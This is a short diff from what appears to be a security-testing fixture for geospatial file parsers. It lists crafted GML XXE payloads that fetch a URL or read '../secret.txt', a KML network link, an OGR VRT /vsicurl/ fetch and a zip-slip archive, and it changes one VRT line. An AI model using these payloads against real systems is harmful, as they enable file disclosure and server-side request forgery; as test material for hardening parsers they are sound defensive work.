@@ -45,7 +45,7 @@ FILES = {
     "64_gml_xxe_http.gml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "%URL%">]><x>&a;</x>',
     "64_gml_xxe_file.gml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "../secret.txt">]><x>&a;</x>',
     "65_kml_networklink.kml": b"<kml><NetworkLink><Link><href>%URL%</href></Link></NetworkLink></kml>",
-    "66_vrt.vrt": b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/%URL%</SrcDataSource></OGRVRTLayer>',
+    "66_vrt.vrt": b"<OGRVRTDataSource><OGRVRTLayer><SrcDataSource>/vsicurl/%URL%</SrcDataSource></OGRVRTLayer>",
     "88_las_vlrs.las": LAS,
     "92_laz.laz": LAS,
     "99_zip_slip.zip": archive(),
